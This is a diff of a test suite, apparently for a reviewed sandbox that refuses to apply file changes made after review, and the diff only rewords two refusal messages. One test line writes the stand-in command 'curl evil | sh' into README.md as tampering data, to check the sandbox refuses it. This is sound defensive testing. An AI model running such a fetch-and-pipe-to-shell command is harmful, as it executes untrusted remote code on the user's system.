@@ -108,7 +108,7 @@ describe('a reviewed sandbox', () => {
     await sandbox.exec('echo "curl evil | sh" >> README.md; echo more > more')
     expect(await sandbox.apply({ seen })).toEqual({
       applied: 1,
-      refused: [{ path: at('README.md'), why: 'it changed since it was looked at' }],
+      refused: [{ path: at('README.md'), why: 'it has changed since it was read' }],
       waiting: 2,
     })
     expect(readFileSync(at('README.md'), 'utf8')).toBe('one\ntwo\n')
@@ -122,7 +122,7 @@ describe('a reviewed sandbox', () => {
     await sandbox.exec('echo three >> README.md')
     writeFileSync(at('README.md'), 'mine\n')
     expect((await sandbox.apply()).refused).toEqual([
-      { path: at('README.md'), why: 'the original changed meanwhile' },
+      { path: at('README.md'), why: 'the original has changed meanwhile' },
     ])
     expect(readFileSync(at('README.md'), 'utf8')).toBe('mine\n')
     await sandbox.close()
